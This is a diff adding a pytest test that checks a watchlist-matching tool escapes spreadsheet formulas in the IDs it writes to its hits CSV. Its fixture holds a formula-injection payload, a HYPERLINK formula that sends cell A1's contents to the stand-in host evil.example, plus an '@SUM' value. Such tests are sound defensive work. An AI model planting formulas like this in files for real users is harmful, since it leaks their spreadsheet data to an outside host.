@@ -175,3 +175,18 @@ def test_a_clean_run_exits_zero_and_leaves_no_rejects_report(
     result = run("--watchlist", str(watchlist), "--records", str(records), "--out", str(out))
     assert result.exit_code == 0  # type: ignore[attr-defined]
     assert not (tmp_path / "hits.rejects.csv").exists()
+
+
+def test_ids_that_look_like_formulas_are_written_as_text(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    watchlist = write(
+        tmp_path / "w.csv",
+        f'id,given_names,family_name\n"{formula.replace(chr(34), 2 * chr(34))}",Sergei,Ivanov\n',
+    )
+    records = write(tmp_path / "r.csv", "id,full_name\n@SUM(1+1),Sergei Ivanov\n")
+    out = tmp_path / "hits.csv"
+    result = run("--watchlist", str(watchlist), "--records", str(records), "--out", str(out))
+    assert result.exit_code == 0, result.output  # type: ignore[attr-defined]
+    (row,) = list(csv.DictReader(out.read_text(encoding="utf-8").splitlines()))
+    assert (row["record_id"], row["entry_id"]) == ("'@SUM(1+1)", "'" + formula)
+    assert float(row["score"]) >= 0.85  # the numeric column stays a number
